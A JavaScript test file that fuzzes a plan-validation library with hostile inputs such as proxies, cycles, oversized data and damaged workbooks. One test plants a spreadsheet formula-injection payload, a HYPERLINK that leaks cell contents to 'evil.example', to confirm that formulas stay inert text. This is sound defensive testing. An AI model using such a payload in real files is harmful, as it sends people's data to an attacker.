// Hostile input at every exported function of both entries (CommonJS and ES modules):
// each call gives a report (or its ordinary answer) or an Error with a `code` and a clear
// message, never a WebAssembly.RuntimeError, and the module keeps working afterwards.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import * as esmCore from 'prevent-plan-check';
import * as esmWorkbook from 'prevent-plan-check/xlsx';

const require = createRequire(import.meta.url);
const api = require('prevent-plan-check');
const workbook = require('prevent-plan-check/xlsx');
const fixture = (name) => readFileSync(new URL(`../fixtures/tables/${name}`, import.meta.url));

const GOOD = { sections: [{ title: 'T', actions: [{ id: '1', description: 'Deliver WRAP', leads: ['Prevent Lead'], milestones: ['Ongoing'] }] }] };
const CODES = new Set(['ERR_INVALID_ARG_TYPE', 'ERR_INVALID_PLAN', 'ERR_INVALID_OPTION']);

function assertStillWorks() {
  const report = api.validate(GOOD);
  assert.equal(report.summary.actions, 1);
  assert.equal(api.parseMilestone('Mar-18', { period: '2017/18' }).end, '2018-03-31');
}

function assertCode(fn, code) {
  assert.throws(fn, (error) => {
    assert.ok(error instanceof Error, 'an Error');
    assert.ok(!(error instanceof WebAssembly.RuntimeError), 'not a WebAssembly.RuntimeError');
    assert.equal(error.code, code, error.message);
    assert.ok(error.message.length > 10);
    return true;
  });
  assertStillWorks();
}

/** Calls `fn`: an answer, or an Error with one of the documented codes (never a trap). */
function outcome(fn, label) {
  try {
    return { value: fn() };
  } catch (error) {
    assert.ok(error instanceof Error, `${label}: threw a non-Error ${String(error)}`);
    assert.ok(!(error instanceof WebAssembly.RuntimeError), `${label}: a WebAssembly.RuntimeError`);
    assert.ok(CODES.has(error.code), `${label}: code ${error.code}: ${error.message}`);
    assert.ok(error.message.length > 10, `${label}: message "${error.message}"`);
    return { error };
  }
}

function assertReport(value, label) {
  assert.equal(typeof value.valid, 'boolean', label);
  assert.ok(Array.isArray(value.issues), label);
  assert.equal(value.valid, value.summary.errors === 0, label);
  for (const issue of value.issues) assert.equal(typeof issue.message, 'string', label);
}

/** Every kind of value a caller could pass by mistake or malice. */
function hostileValues() {
  const cyclic = { sections: [] };
  cyclic.self = cyclic;
  const throwingGetter = Object.defineProperty({ sections: [] }, 'title', { enumerable: true, get() { throw new Error('boom'); } });
  const { proxy: revoked, revoke } = Proxy.revocable({}, {});
  revoke();
  const { proxy: revokedArray, revoke: revokeArray } = Proxy.revocable([], {});
  revokeArray();
  const trap = () => { throw new Error('trap'); };
  const trappingProxy = new Proxy({}, { get: trap, ownKeys: trap, getOwnPropertyDescriptor: trap, has: trap });
  const trappingArray = new Proxy([['Action', 'Lead']], { get: trap });
  const sparse = [];
  sparse[3] = ['Action', 'Lead'];
  const sparseRow = [];
  sparseRow[4] = 'Lead';
  let deepArray = [];
  for (let i = 0; i < 10_000; i += 1) deepArray = [deepArray];
  let deepObject = {};
  for (let i = 0; i < 10_000; i += 1) deepObject = { sections: deepObject };
  return {
    undefined,
    null: null,
    zero: 0,
    nan: NaN,
    infinity: -Infinity,
    emptyString: '',
    string: 'text',
    boolean: true,
    bigint: 10n,
    symbol: Symbol('s'),
    function: () => {},
    array: [],
    object: {},
    date: new Date('nonsense'),
    map: new Map([['sections', []]]),
    bytes: new Uint8Array([0x50, 0x4b, 0x03, 0x04]),
    cyclic,
    throwingGetter,
    revoked,
    revokedArray,
    trappingProxy,
    trappingArray,
    sparse,
    sparseRow: [['Action', 'Lead'], sparseRow],
    deepArray,
    deepObject,
    symbolKeys: { [Symbol('k')]: 1, sections: [] },
    bigintInRows: [['Action', 'Lead'], ['Train staff', 10n]],
  };
}

/** Each exported function with the argument positions a hostile value can take. */
function calls(core, xlsx) {
  const sheet = fixture('excel-style.xlsx');
  return {
    'validate(v)': [(v) => core.validate(v), 'report'],
    'validate(plan, v)': [(v) => core.validate(GOOD, v), 'report'],
    'validateJson(v)': [(v) => core.validateJson(v), 'report'],
    'validateJson(text, v)': [(v) => core.validateJson('{"sections": []}', v), 'report'],
    'validateTable(v)': [(v) => core.validateTable(v), 'report'],
    'validateTable(rows, v)': [(v) => core.validateTable([['Action', 'Lead'], ['Train', 'Prevent Lead']], v), 'report'],
    'validateCsv(v)': [(v) => core.validateCsv(v), 'report'],
    'validateCsv(text, v)': [(v) => core.validateCsv('Action,Lead\nTrain,Prevent Lead\n', v), 'report'],
    'parseMilestone(v)': [(v) => core.parseMilestone(v), 'reading'],
    'parseMilestone(text, v)': [(v) => core.parseMilestone('Mar-18', v), 'reading'],
    'schema(v)': [(v) => core.schema(v), 'object'],
    'profiles(v)': [(v) => core.profiles(v), 'array'],
    'profileSchema(v)': [(v) => core.profileSchema(v), 'object'],
    'rules(v)': [(v) => core.rules(v), 'array'],
    'limits(v)': [(v) => core.limits(v), 'object'],
    'version(v)': [(v) => core.version(v), 'string'],
    'validateWorkbook(v)': [(v) => xlsx.validateWorkbook(v), 'report'],
    'validateWorkbook(bytes, v)': [(v) => xlsx.validateWorkbook(sheet, v), 'report'],
    'readWorkbook(v)': [(v) => xlsx.readWorkbook(v), 'object'],
  };
}

function assertAnswer(kind, value, label) {
  if (kind === 'report') assertReport(value, label);
  else if (kind === 'reading') assert.equal(typeof value.kind, 'string', label);
  else if (kind === 'array') assert.ok(Array.isArray(value), label);
  else assert.equal(typeof value, kind, label);
}

for (const [entry, core, xlsx] of [['CommonJS', api, workbook], ['ES module', esmCore, esmWorkbook]]) {
  test(`${entry}: every export, every hostile value: an answer or a coded Error`, () => {
    const seen = { answers: 0, errors: 0 };
    for (const [call, [fn, kind]] of Object.entries(calls(core, xlsx))) {
      for (const [name, value] of Object.entries(hostileValues())) {
        const label = `${entry} ${call} with ${name}`;
        const { value: answer, error } = outcome(() => fn(value), label);
        if (error) seen.errors += 1;
        else {
          assertAnswer(kind, answer, label);
          seen.answers += 1;
        }
      }
      assertStillWorks();
    }
    // Both happen: the suite is not vacuous in either direction.
    assert.ok(seen.answers > 50 && seen.errors > 50, JSON.stringify(seen));
  });
}

test('the ES module and CommonJS entries are the same functions', () => {
  for (const name of Object.keys(api)) assert.equal(esmCore[name], api[name], name);
  assert.equal(esmWorkbook.validateWorkbook, workbook.validateWorkbook);
  assert.equal(esmWorkbook.readWorkbook, workbook.readWorkbook);
});

test('validate rejects values that are not plan objects', () => {
  for (const value of [undefined, null, 42, 'text', true, [], 10n, Symbol('s'), () => {}]) {
    assertCode(() => api.validate(value), 'ERR_INVALID_ARG_TYPE');
  }
});

test('validate rejects cycles, BigInt, functions, Symbols, throwing getters and proxies', () => {
  const { cyclic, throwingGetter, trappingProxy, revoked } = hostileValues();
  assertCode(() => api.validate(cyclic), 'ERR_INVALID_PLAN');
  assertCode(() => api.validate({ sections: [], title: 12n }), 'ERR_INVALID_PLAN');
  assertCode(() => api.validate({ sections: [], title: () => 'x' }), 'ERR_INVALID_PLAN');
  assertCode(() => api.validate({ sections: [], title: Symbol('x') }), 'ERR_INVALID_PLAN');
  assertCode(() => api.validate(throwingGetter), 'ERR_INVALID_PLAN');
  assertCode(() => api.validate(trappingProxy), 'ERR_INVALID_PLAN');
  assertCode(() => api.validate(revoked), 'ERR_INVALID_ARG_TYPE');
  assertCode(() => api.validate(GOOD, revoked), 'ERR_INVALID_ARG_TYPE');
  assertCode(() => api.validateTable(hostileValues().revokedArray), 'ERR_INVALID_ARG_TYPE');
});

test('proxies that behave are read like the objects they wrap', () => {
  const report = api.validate(new Proxy(structuredClone(GOOD), {}));
  assert.deepEqual(report, api.validate(GOOD));
});

test('sparse arrays: holes are empty rows and cells, or null fields the schema reports', () => {
  const { sparse, sparseRow } = hostileValues();
  const fromSparse = api.validateTable([...sparse, ['Train staff', 'Prevent Lead']]);
  assert.equal(fromSparse.summary.actions, 1);
  assert.equal(fromSparse.issues.find((issue) => issue.cell)?.cell?.endsWith('5'), true);
  assertReport(api.validateTable(sparseRow), 'sparse row');
  const holes = api.validate({ sections: [, GOOD.sections[0]] }); // eslint-disable-line no-sparse-arrays
  assert.ok(holes.issues.some((issue) => issue.rule === 'schema' && issue.path === '/sections/0'));
});

test('hostile shapes become reports, not crashes', () => {
  const { deepArray } = hostileValues();
  // Too deep for JSON.stringify itself: a clear error before WASM is entered.
  assertCode(() => api.validate({ sections: deepArray }), 'ERR_INVALID_PLAN');
  let nested = [];
  for (let i = 0; i < 500; i += 1) nested = [nested];
  const report = api.validate({ sections: nested });
  assert.equal(report.valid, false);
  assert.equal(report.issues[0].rule, 'input-too-large');
  assert.match(report.issues[0].message, /nested more than 128 levels/);
  assert.equal(api.validateJson('['.repeat(100_000)).issues[0].rule, 'input-too-large');
  assert.equal(api.validateJson('{"a":'.repeat(10_000)).issues[0].rule, 'input-too-large');
  assert.equal(api.validateJson('{"sections": [}').issues[0].rule, 'json-syntax');
  const wrongTypes = api.validate({ sections: 'none', title: 5, period: 2017 });
  assert.equal(wrongTypes.valid, false);
  assert.ok(wrongTypes.issues.every((issue) => issue.rule === 'schema'));
  assertStillWorks();
});

test('inputs over the limits are reported as input-too-large', () => {
  const { maxInputBytes, maxDepth, maxActions, maxCellChars } = api.limits();
  assert.deepEqual([maxInputBytes, maxDepth, maxActions, maxCellChars], [16 * 1024 * 1024, 128, 100_000, 32_767]);
  const huge = 'x'.repeat(50 * 1024 * 1024);
  for (const check of [api.validateJson, api.validateCsv]) {
    const report = check(huge);
    assert.equal(report.valid, false);
    assert.equal(report.issues[0].rule, 'input-too-large');
    assert.match(report.issues[0].message, /50\.0 MB; at most 16\.0 MB/);
  }
  assert.equal(api.validate({ title: huge, sections: [] }).issues[0].rule, 'input-too-large');
  assert.equal(api.validateTable([['Action', 'Lead'], [huge, 'x']]).issues[0].rule, 'input-too-large');
  assert.equal(workbook.validateWorkbook(new Uint8Array(maxInputBytes + 1)).issues[0].rule, 'input-too-large');
  const reading = api.parseMilestone(huge);
  assert.deepEqual([reading.kind, reading.start, reading.end], ['unparsed', null, null]);
  const actions = Array.from({ length: maxActions + 1 }, () => ({}));
  const many = api.validate({ sections: [{ title: 'T', actions }] });
  assert.equal(many.issues[0].rule, 'input-too-large');
  assert.equal(api.validateJson(`${'['.repeat(200)}${']'.repeat(200)}`).issues[0].rule, 'input-too-large');
  assertStillWorks();
});

test('validateJson and parseMilestone need strings, validateCsv a string or bytes', () => {
  for (const value of [undefined, null, 1, {}, [], new String('x'), Buffer.from('{}')]) {
    assertCode(() => api.validateJson(value), 'ERR_INVALID_ARG_TYPE');
    if (!Buffer.isBuffer(value)) assertCode(() => api.validateCsv(value), 'ERR_INVALID_ARG_TYPE');
    assertCode(() => api.parseMilestone(value), 'ERR_INVALID_ARG_TYPE');
  }
  assertReport(api.validateCsv(Buffer.from('Action,Lead\nTrain,Prevent Lead\n')), 'validateCsv(bytes)');
});

test('bad options are ERR_INVALID_OPTION or ERR_INVALID_ARG_TYPE', () => {
  assertCode(() => api.validate(GOOD, 'la-2023'), 'ERR_INVALID_ARG_TYPE');
  assertCode(() => api.validate(GOOD, { asOf: '31/01/2018' }), 'ERR_INVALID_OPTION');
  assertCode(() => api.validate(GOOD, { asOf: new Date('nonsense') }), 'ERR_INVALID_ARG_TYPE');
  assertCode(() => api.validate(GOOD, { period: 'next year' }), 'ERR_INVALID_OPTION');
  assertCode(() => api.validate(GOOD, { locale: 'fr' }), 'ERR_INVALID_OPTION');
  assertCode(() => api.validate(GOOD, { colour: 'red' }), 'ERR_INVALID_OPTION');
  assertCode(() => api.validate(GOOD, { profile: 42 }), 'ERR_INVALID_OPTION');
  assertCode(() => api.validate(GOOD, { profile: { id: 'x', categories: 'none' } }), 'ERR_INVALID_OPTION');
  assertCode(() => api.validate(GOOD, { period: 10n }), 'ERR_INVALID_OPTION');
});

test('truncated and malformed workbooks and tables are reported, not thrown', () => {
  const whole = fixture('excel-style.xlsx');
  for (const bytes of [
    whole.subarray(0, whole.length / 2),
    whole.subarray(0, 30),
    whole.subarray(whole.length / 2),
    Buffer.from('PK\u0003\u0004 not really a zip'),
    Buffer.from('Action,Lead\nTrain,Prevent Lead\n'),
    new Uint8Array(0),
    fixture('damaged/calamine-overflow.xlsx'),
  ]) {
    const report = workbook.validateWorkbook(bytes);
    assert.equal(report.valid, false);
    assert.ok(['table-unreadable', 'table-no-header'].includes(report.issues[0].rule), report.issues[0].rule);
  }
  const flipped = Buffer.from(whole);
  for (let i = 100; i < flipped.length; i += 97) flipped[i] ^= 0xff;
  assertReport(workbook.validateWorkbook(flipped), 'flipped bytes');
  for (const text of ['Action,Lead\n"Train staff', '"', '\u0000\u0001\u0002', 'Action\tLead\n\uFFFD\uD800\tx', ',,,,\n'.repeat(1000)]) {
    assertReport(api.validateCsv(text), JSON.stringify(text.slice(0, 20)));
  }
  assertStillWorks();
});

test('formulas in cells are text: never evaluated, read into the plan as written', () => {
  const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
  const csv = `Action,Lead,Target date\n"${formula.replaceAll('"', '""')}",@SUM(1+1),+44\n-2+3,=1+1,Mar-18\n`;
  const report = api.validateCsv(csv);
  const [first, second] = report.plan.sections.flatMap((section) => section.actions);
  assert.equal(first.description, formula);
  assert.deepEqual(first.leads, ['@SUM(1+1)']);
  assert.equal(second.description, '-2+3');
  assert.deepEqual(second.leads, ['=1+1']);
  const rows = api.validateTable([['Action', 'Lead'], [formula, '=1+1']]);
  assert.equal(rows.plan.sections[0].actions[0].description, formula);
});
